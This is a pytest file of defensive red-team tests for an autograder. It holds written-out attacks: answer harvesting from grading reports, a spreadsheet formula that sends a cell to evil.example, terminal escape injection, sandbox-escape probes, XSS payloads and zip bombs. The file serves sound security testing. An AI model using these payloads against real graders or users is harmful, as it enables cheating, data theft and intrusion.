"""Attacks by a student who has read this repository, each shown working without its protection.

Each test runs the attack twice where it can: with the protection switched off in the test
(the attack succeeds: the test proves it is a real attack) and as the kit ships (it fails).
Attacks that fail against the unmodified kit and are cheap to run are kept as regression
tests. The README's threat model lists them briefly.
"""
from __future__ import annotations

import re
from pathlib import Path

import pytest

from autograder import seeds
from autograder.grading import GradeOptions, grade
from autograder.rubric import Rubric

ROOT = Path(__file__).resolve().parent.parent

# ----------------------------------------------------------------------------- harvesting a report

# The first submission answers each call with a fingerprint of its inputs, so the report's
# "expected 2.302585093, got 1234567" pairs inputs with the reference's answer; the second
# answers from the table it pasted in.
_HARVESTER = '''
import hashlib
import numpy as np

TABLE = {}


def _key(*args):
    data = b"".join(np.ascontiguousarray(np.asarray(a, dtype=np.float64)).tobytes() for a in args)
    return int(hashlib.sha256(data).hexdigest()[:7], 16)


def cross_entropy_error(y, t):
    key = _key(y, t)
    return TABLE.get(key, float(key))


sum_squared_error = cross_entropy_error
'''
_PAIR = re.compile(r"expected (-?[0-9.e+-]+), got ([0-9]+)\b")


def _harvest(tmp_path, monkeypatch, salted):
    """(checks failed by the first submission, checks the second then passes)."""
    if not salted:
        monkeypatch.setattr(seeds.InputSeed, "for_submission", lambda self, digest: self)
    only = frozenset({"functions.cross_entropy_error", "functions.sum_squared_error"})
    options = GradeOptions(only=only, rubric=Rubric.from_dict({"grading": {"secret": "the course's secret"}}))
    sub = tmp_path / ("salted" if salted else "unsalted")
    sub.mkdir()
    (sub / "functions.py").write_text(_HARVESTER)
    first = grade(sub, options)
    table = {}
    for check in first.checks:
        for expected, key in _PAIR.findall(check.output):
            table[int(key)] = float(expected)
    failed = {c.check_id for c in first.checks if c.graded and not c.passed}
    assert len(table) >= 4 and failed, "the report shows expected values for the fingerprints"
    (sub / "functions.py").write_text(_HARVESTER.replace("TABLE = {}", f"TABLE = {table!r}"))
    second = grade(sub, options)
    return failed, {c.check_id for c in second.checks if c.graded and c.passed} & failed


@pytest.mark.slow
def test_expected_values_of_one_report_answer_nothing_at_the_next_submission(tmp_path, monkeypatch):
    """A table of a report's expected values passes the checks it came from only while inputs ignore the code."""
    failed, won = _harvest(tmp_path, monkeypatch, salted=False)
    assert len(won) >= 3, f"without the salt the harvested table passes {sorted(won)}"
    monkeypatch.undo()
    failed, won = _harvest(tmp_path, monkeypatch, salted=True)
    assert not won, f"salted inputs: the table still passes {sorted(won)}"


def test_the_same_code_meets_the_same_inputs_and_other_code_other_inputs():
    """Salting keeps regrades and replays exact: the same digest draws the same numbers; a public key is never salted."""
    key = seeds.resolve(None, "a course secret")
    one, other = key.for_submission("aa" * 32), key.for_submission("bb" * 32)
    draw = lambda s: s.rng("functions.softmax::test_batch_rows").random(4).tolist()  # noqa: E731
    assert draw(one) == draw(key.for_submission("aa" * 32)) and draw(one) != draw(other) != draw(key)
    public = seeds.resolve(None, seeds.SELF_CHECK_SECRET)
    assert public.public and draw(public.for_submission("aa" * 32)) == draw(public)
    with pytest.raises(ValueError):
        key.for_submission("")


# ----------------------------------------------------------------------------- the class's files

_FORMULA = '=HYPERLINK("mailto:x@evil.example?body="&B1,"see grade")'  # no "/": a file name'


@pytest.mark.parametrize("clean", [True, False], ids=["kit", "unprotected"])
def test_a_student_id_is_never_a_spreadsheet_formula(tmp_path, monkeypatch, clean):
    """A submission named like a formula: gradebook.csv's cell starts with ' (OWASP), and the id still names the row."""
    import csv
    import io

    from autograder.batch import gradebook
    from autograder.batch.discover import discover
    from autograder.batch.records import CRASHED, SubmissionRecord

    class_dir = tmp_path / "class"
    class_dir.mkdir()
    (class_dir / f"{_FORMULA}.zip").write_bytes(b"not a zip")
    (class_dir / "＝1+1.zip").write_bytes(b"not a zip")  # full-width '=', as a Japanese IME types it
    (class_dir / "alice.zip").write_bytes(b"not a zip")
    ids = [e.student for e in discover(class_dir)]
    assert _FORMULA in ids
    if not clean:
        monkeypatch.setattr(gradebook, "clean_cell", lambda text: text)
    gradebook.write_gradebook([SubmissionRecord(s, CRASHED) for s in ids], tmp_path / "gradebook.csv", 100)
    cells = [row[0] for row in csv.reader(io.StringIO((tmp_path / "gradebook.csv").read_text()))][1:]
    formulas = [c for c in cells if c[:1] in ("=", "＝", "+", "-", "@")]
    if clean:
        assert not formulas and f"'{_FORMULA}" in cells and "alice" in cells
    else:
        assert len(formulas) == 2, "without clean_cell the spreadsheet runs both cells"


def test_an_escape_sequence_in_a_file_name_cannot_paint_the_tas_terminal():
    """Progress lines and report.txt of a refused submission show ESC escaped."""
    import io

    from autograder.batch.progress import Progress
    from autograder.batch.records import REFUSED, SubmissionRecord

    name = "bob\x1b[2J\x1b[H[24/24] alice: 100 / 100"
    stream = io.StringIO()
    Progress(1, stream=stream).update(SubmissionRecord(name, REFUSED, message="bad zip \x1b[31m\r"))
    line = stream.getvalue()
    assert "\x1b" not in line and "\r" not in line and "\\x1b[2J" in line and line.count("\n") == 1


# ----------------------------------------------------------------------------- the network at level uid

_NETWORK = r'''
import ctypes, socket


def attempts():
    """{way out: worked} for the ways a worker could reach a server or another worker."""
    out = {}
    for name, family, kind in (("tcp4", socket.AF_INET, socket.SOCK_STREAM),
                               ("udp4", socket.AF_INET, socket.SOCK_DGRAM),
                               ("tcp6", socket.AF_INET6, socket.SOCK_STREAM),
                               ("netlink", socket.AF_NETLINK, socket.SOCK_RAW)):
        try:
            socket.socket(family, kind).close()
            out[name] = True
        except OSError:
            out[name] = False
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    out["io_uring"] = libc.syscall(425, 4, params) >= 0  # io_uring_setup(4 entries)
    a, b = socket.socketpair()  # Unix sockets stay: libraries use them within a process
    a.sendall(b"x")
    out["unix"] = b.recv(1) == b"x"
    return out
'''


@pytest.mark.parametrize("level", ["uid", "off"])
def test_a_worker_at_level_uid_has_no_network(tmp_path, level):
    """Level uid shares the machine's network: the worker's seccomp filter refuses sockets (not at level off)."""
    from autograder.sandbox import isolation, tempdirs
    from autograder.sandbox.worker import Worker

    root = Path(tempdirs.mkdtemp("net-"))  # where the pool makes layouts (a uid worker can pass)
    (root / "net.py").write_text(_NETWORK)
    chosen = isolation.OFF if level == "off" else isolation.resolve(level)
    with Worker(root, import_paths=[root], timeout=20, isolation=chosen) as worker:
        got = worker.import_module("net").attempts()
    assert got["unix"]
    if level == "uid":
        assert not any(v for k, v in got.items() if k != "unix"), got
    else:
        assert got["tcp4"] and got["udp4"], "at level off the same code reaches the network"


# ----------------------------------------------------------------------------- the machine's RAM at level uid

_FILL = r'''
import os


def fill(folder, mib):
    """Write mib MiB into folder in 1 MiB files; returns what was written, in MiB."""
    written = 0
    try:
        for i in range(mib):
            path = os.path.join(folder, f"dlgrade-redteam-{os.getpid()}-{i}")
            with open(path, "wb") as f:
                f.write(b"x" * 2**20)
            written += 1
    except OSError:
        pass
    finally:
        for i in range(written):
            os.unlink(os.path.join(folder, f"dlgrade-redteam-{os.getpid()}-{i}"))
    return written


def home_is_writable():
    return fill(os.environ["HOME"], 1) == 1
'''


@pytest.mark.parametrize("level", ["uid", "off"])
def test_a_worker_at_level_uid_cannot_fill_the_machines_ram(level):
    """/dev/shm is RAM no memory limit counts: at level uid Landlock leaves the worker only its home."""
    from autograder.sandbox import isolation, tempdirs
    from autograder.sandbox.worker import Worker

    root = Path(tempdirs.mkdtemp("fill-"))
    (root / "fill.py").write_text(_FILL)
    chosen = isolation.OFF if level == "off" else isolation.resolve(level)
    with Worker(root, import_paths=[root], timeout=20, isolation=chosen) as worker:
        module = worker.import_module("fill")
        shared = {folder: module.fill(folder, 8) for folder in ("/dev/shm", "/tmp", "/var/tmp")}
        assert module.home_is_writable()
    if level == "uid":
        assert not any(shared.values()), shared
    else:
        assert shared["/dev/shm"] == 8, "at level off the same code writes into RAM"


# ----------------------------------------------------------------------------- memory beyond RLIMIT_AS

_MULTIPLY = r'''
import ctypes, os, resource, threading


def ways():
    """{way to hold memory no RLIMIT_AS counts: worked} (each tried small)."""
    out = {}
    try:  # a child has its own RLIMIT_AS: 64 of them hold 64 times the limit
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        out["fork"] = True
    except OSError:
        out["fork"] = False
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    shmget = {"x86_64": 29, "aarch64": 194}[os.uname().machine]
    segment = libc.syscall(shmget, 0, 2**20, 0o1600)  # IPC_PRIVATE | IPC_CREAT: outlives any mapping
    out["sysv_shm"] = segment >= 0
    if segment >= 0:
        libc.shmctl(segment, 0, None)  # IPC_RMID
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    except (ValueError, OSError):
        pass
    out["open_files"] = resource.getrlimit(resource.RLIMIT_NOFILE)[0]  # memfds of 1 MiB each
    # A user namespace of its own could mount a tmpfs of any size (after exec'ing alone).
    out["unshare_refused"] = libc.unshare(0x10000000) != 0 and ctypes.get_errno() == 1  # EPERM
    done = []
    t = threading.Thread(target=done.append, args=(1,))
    t.start()
    t.join()
    out["threads"] = done == [1]
    return out
'''


@pytest.mark.parametrize("level", ["bwrap", "uid", "off"])
def test_a_worker_cannot_multiply_its_memory_limit(level):
    """RLIMIT_AS is per process: sealed workers start no process, keep no System V segment, open few files."""
    from autograder.sandbox import isolation, tempdirs
    from autograder.sandbox.worker import Worker

    root = Path(tempdirs.mkdtemp("multiply-"))
    (root / "multiply.py").write_text(_MULTIPLY)
    chosen = isolation.OFF if level == "off" else isolation.resolve(level)
    with Worker(root, import_paths=[root], timeout=20, isolation=chosen) as worker:
        got = worker.import_module("multiply").ways()
    assert got["threads"], "threads stay allowed (numpy, concurrent.futures)"
    if level == "off":
        assert got["fork"] and got["sysv_shm"], "without the sandbox the same code forks and keeps segments"
    else:
        assert not got["fork"] and not got["sysv_shm"] and got["open_files"] <= 256, got
        assert got["unshare_refused"], got


# ----------------------------------------------------------------------------- the feedback page

_VECTORS = {  # a student's notebook: markdown they wrote, outputs their code made in the kernel
    "markdown HTML": "Done! <img src=x onerror=alert(1)>\n\n<script>alert(2)</script>",
    "formula link": "$\\href{javascript:alert(3)}{see the proof}$",
    "formula HTML": "$\\text{<b onmouseover=alert(4)>hi</b>}$",
}


def _feedback_html(monkeypatch, protected):
    import os

    import nbformat
    import nbgrader
    from nbconvert import HTMLExporter
    from traitlets.config import Config

    from autograder.nbbuild import feedback

    if not protected:  # only what nbconvert itself does
        monkeypatch.setattr(feedback, "latex_to_mathml", lambda source: source)
        monkeypatch.setattr(feedback, "safe_outputs", lambda cell: None)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(v) for v in _VECTORS.values()]
    nb.cells.append(nbformat.v4.new_markdown_cell("Kept: $h = 10^{-4}$ and `x[x < 0] = 0`."))
    nb.cells.append(nbformat.v4.new_code_cell("from IPython.display import HTML, display", outputs=[
        nbformat.v4.new_output("display_data", data={"text/html": "<script>alert(5)</script>", "text/plain": "HTML"}),
        nbformat.v4.new_output("display_data", data={"image/png": 'AAAA"><script>alert(6)</script>'}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg onload=alert(7)></svg>"}),
    ]))
    c = Config()
    feedback.configure_feedback(c)  # as nbgrader_config.py does; GenerateFeedback adds the rest:
    c.HTMLExporter.template_name = "feedback"
    c.HTMLExporter.extra_template_paths = [os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions",
                                                        "formgrader", "static", "node_modules", "bootstrap", "dist", "css")]
    c.HTMLExporter.preprocessors = [feedback.ClearHiddenTestsAndTracebacks, feedback.FeedbackPage]
    resources = {"nbgrader": {"notebook": "ps1", "score": 1, "max_score": 2, "late_penalty": 0}}
    return HTMLExporter(config=c).from_notebook_node(nb, resources=resources)[0]


@pytest.mark.slow
@pytest.mark.parametrize("protected", [True, False], ids=["kit", "nbconvert alone"])
def test_the_feedback_page_runs_no_script_a_student_wrote(monkeypatch, protected):
    """nbgrader's feedback page opens in the TA's formgrader (the Jupyter server's origin): no student HTML in it."""
    from html.parser import HTMLParser

    class Live(HTMLParser):
        """What a browser would run: handlers, javascript: links, scripts that call alert."""

        def __init__(self):
            super().__init__()
            self.found, self.in_script = [], False

        def handle_starttag(self, tag, attrs):
            self.in_script = tag == "script"
            self.found += [f"{tag} {name}" for name, value in attrs
                           if name.startswith("on") or (value or "").strip().lower().startswith("javascript:")]

        def handle_data(self, data):
            if self.in_script and "alert(" in data:
                self.found.append("script " + data.strip()[:20])

    page = _feedback_html(monkeypatch, protected)
    parser = Live()
    parser.feed(page)
    live = parser.found
    if not protected:
        assert len(live) >= 3, f"nbconvert alone passes the student's HTML through: {live}"
        return
    assert not live, live
    assert "<mi>h</mi>" in page and "<code>x[x &lt; 0] = 0</code>" in page, "formulas and code still render"


# ----------------------------------------------------------------------------- zip files

@pytest.mark.parametrize("shape", ["many entries", "long names"])
@pytest.mark.parametrize("protected", [True, False], ids=["kit", "zipfile alone"])
def test_a_zip_directory_bomb_is_refused_before_zipfile_parses_it(tmp_path, monkeypatch, shape, protected):
    """zipfile parses the whole central directory (10x its size in objects, seconds per 100k entries) first."""
    import zipfile

    from autograder import UserError, submission

    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w") as archive:
        if shape == "many entries":
            for i in range(submission.MAX_ENTRIES + 100):
                archive.writestr(f"{i:x}", b"")
        else:
            for i in range(80):
                archive.writestr(f"{i:04d}" + "n" * 60_000, b"")
    parsed = []
    real = zipfile.ZipFile
    monkeypatch.setattr(zipfile, "ZipFile", lambda *a, **k: parsed.append(a) or real(*a, **k))
    if not protected:
        monkeypatch.setattr(submission, "_central_directory", lambda fh: None)
    with pytest.raises(UserError, match="more than" if protected else ""):
        submission.load_submission(path)
    assert bool(parsed) != protected, "the kit refuses from the end record alone; zipfile parses first"
